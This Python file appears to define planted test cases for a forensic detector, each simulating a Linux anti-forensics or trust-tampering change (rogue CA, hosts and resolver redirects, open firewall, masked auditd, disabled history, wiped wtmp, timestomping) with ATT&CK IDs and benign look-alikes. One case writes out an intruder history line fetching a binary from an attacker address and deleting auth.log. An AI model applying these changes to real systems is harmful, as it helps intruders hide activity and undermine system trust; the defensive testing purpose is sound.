"""What was changed so that nobody notices."""

from __future__ import annotations

from dataclasses import replace
from typing import Final

from plantings.case import Act, Case, Twin, add, both, link, put
from plantings.command import ADDRESS, program
from plantings.more_packages import UNITS
from pratique.demo.days import INSTALLED
from pratique.demo.disk import Disk
from pratique.demo.program import binary
from pratique.demo.sessions import RECORD, WTMP

_TRUST: Final = "Trust changes"

_ETC: Final = "/etc/systemd/system"

_CERTIFICATE: Final = (
    "-----BEGIN CERTIFICATE-----\nbm8gY2VydGlmaWNhdGU=\n-----END CERTIFICATE-----\n"
)

_CA: Final = Twin(
    "ca-own",
    "one's own authority",
    "/usr/local/share/ca-certificates/harbour.crt",
    put("/usr/local/share/ca-certificates/harbour.crt", _CERTIFICATE),
    table="file",
)

_HOSTS: Final = Twin(
    "hosts-own",
    "names of machines of one's own",
    "/etc/hosts",
    add("/etc/hosts", "192.0.2.20 db.harbour.example db\n"),
    table="file",
)

RULES: Final = Twin(
    "firewall-own",
    "web and ssh",
    "/etc/iptables/rules.v4",
    put(
        "/etc/iptables/rules.v4",
        "*filter\n:INPUT DROP [0:0]\n-A INPUT -p tcp --dport 22 -j ACCEPT\n-A INPUT -p tcp --dport 443 -j ACCEPT\nCOMMIT\n",
    ),
    table="file",
)

_MASKED: Final = Twin(
    "masked-own",
    "a service that nobody needs",
    f"{_ETC}/ctrl-alt-del.target",
    link(f"{_ETC}/ctrl-alt-del.target", "/dev/null"),
    table="file",
)

_HISTORY: Final = Twin(
    "history-own",
    "a longer history",
    "/home/anna/.bashrc",
    add("/home/anna/.bashrc", "HISTSIZE=50000\nHISTCONTROL=ignoredups\n"),
    table="file",
)


def _wiped(disk: Disk) -> None:
    """Put zeros over a record in the middle of the list of logins."""
    item = disk[WTMP]
    start = len(item.content) // RECORD // 2 * RECORD
    content = item.content[:start] + bytes(RECORD) + item.content[start + RECORD :]
    disk.items[WTMP] = replace(item, content=content)


def _locked(path: str) -> Act:
    return both(program(path), lambda disk: disk.alter(path, immutable=True))


def _old(path: str) -> Act:
    """A program whose time is that of the system's installation."""
    return lambda disk: disk.file(path, binary(path), 0o755, time=INSTALLED)


CASES: Final = (
    Case(
        "ca-added",
        _TRUST,
        "T1553.004",
        "a stranger's authority is believed",
        "/etc/ssl/certs/corp-root.pem",
        both(
            put("/usr/local/share/ca-certificates/corp-root.crt", _CERTIFICATE),
            put("/etc/ssl/certs/corp-root.pem", _CERTIFICATE),
        ),
        _CA,
        table="file",
        everyday="most companies add an authority of their own",
    ),
    Case(
        "apt-key",
        _TRUST,
        "T1553",
        "a stranger's key for all packages",
        "/etc/apt/trusted.gpg.d/update.gpg",
        put("/etc/apt/trusted.gpg.d/update.gpg", b"\x99\x01\x0d\x04" + bytes(60)),
        table="file",
        everyday="the instructions of many vendors put their key there",
    ),
    Case(
        "hosts",
        _TRUST,
        "T1562.001",
        "updates come from nowhere",
        "/etc/hosts",
        add("/etc/hosts", "127.0.0.1 security.debian.org deb.debian.org\n"),
        _HOSTS,
        table="file",
    ),
    Case(
        "resolver",
        _TRUST,
        "T1562",
        "names are asked of a stranger",
        "/etc/resolv.conf",
        put("/etc/resolv.conf", f"nameserver {ADDRESS}\n"),
        _HOSTS,
        table="file",
        everyday="every hoster has addresses of its own for names",
    ),
    Case(
        "firewall",
        _TRUST,
        "T1562.004",
        "everything may come in from one address",
        "/etc/iptables/rules.v4",
        put(
            "/etc/iptables/rules.v4",
            f"*filter\n:INPUT ACCEPT [0:0]\n-A INPUT -s {ADDRESS} -j ACCEPT\n-A INPUT -p tcp --dport 1337 -j ACCEPT\nCOMMIT\n",
        ),
        RULES,
        table="file",
        everyday="administrators let their own address in like that",
    ),
    Case(
        "audit-masked",
        _TRUST,
        "T1562.012",
        "nobody writes down who did what",
        f"{_ETC}/auditd.service",
        both(  # as `systemctl mask` leaves it: what starts it at boot is still there
            link(f"{_ETC}/multi-user.target.wants/auditd.service", f"{UNITS}/auditd.service"),
            link(f"{_ETC}/auditd.service", "/dev/null"),
        ),
        _MASKED,
        table="file",
    ),
    Case(
        "audit-rules",
        _TRUST,
        "T1562.012",
        "nothing is written down",
        "/etc/audit/rules.d/audit.rules",
        put("/etc/audit/rules.d/audit.rules", "-D\n-a never,task\n-e 0\n"),
        table="file",
    ),
    Case(
        "rsyslog-discards",
        _TRUST,
        "T1562.001",
        "what he does is not written down",
        "/etc/rsyslog.d/00-quiet.conf",
        put("/etc/rsyslog.d/00-quiet.conf", f':msg, contains, "{ADDRESS}" stop\n'),
        table="file",
    ),
    Case(
        "history-off",
        _TRUST,
        "T1562.003",
        "no history is kept",
        "/root/.bashrc",
        add("/root/.bashrc", "unset HISTFILE\nexport HISTSIZE=0\n"),
        _HISTORY,
        table="startup_command",
        everyday="guides to tighten a server tell administrators to do it",
    ),
    Case(
        "history-linked",
        _TRUST,
        "T1562.003",
        "a history that is nowhere",
        "/root/.bash_history",
        link("/root/.bash_history", "/dev/null"),
        _HISTORY,
        table="file",
    ),
    Case(
        "history-tells",
        _TRUST,
        "T1059.004",
        "the intruder's commands in a history",
        "/home/bruno/.bash_history",
        add(
            "/home/bruno/.bash_history",
            f"wget http://{ADDRESS}/k -O /var/tmp/.cache/kworker\nchmod +x /var/tmp/.cache/kworker\nhistory -c\nrm -rf /var/log/auth.log\n",
        ),
        _HISTORY,
        table="file",
    ),
    Case(
        "immutable",
        _TRUST,
        "T1222.002",
        "a program that nobody can remove",
        "/usr/bin/netstat2",
        _locked("/usr/bin/netstat2"),
        table="file",
    ),
    Case(
        "dot-folder",
        _TRUST,
        "T1564.001",
        "a folder of three dots",
        "/usr/lib/.../run",
        program("/usr/lib/.../run"),
        table="file",
    ),
    Case(
        "logins-wiped",
        _TRUST,
        "T1070.006",
        "a login taken out of the list",
        WTMP,
        _wiped,
        table="login",
    ),
    Case(
        "time-stamped",
        _TRUST,
        "T1070.006",
        "a program with the time of the installation",
        "/usr/sbin/irqbalance2",
        _old("/usr/sbin/irqbalance2"),
        table="file",
        timed=True,
    ),
    Case(
        "log-emptied",
        _TRUST,
        "T1070.002",
        "the log of logins is empty",
        "/var/log/auth.log",
        put("/var/log/auth.log", ""),
        table="file",
    ),
)
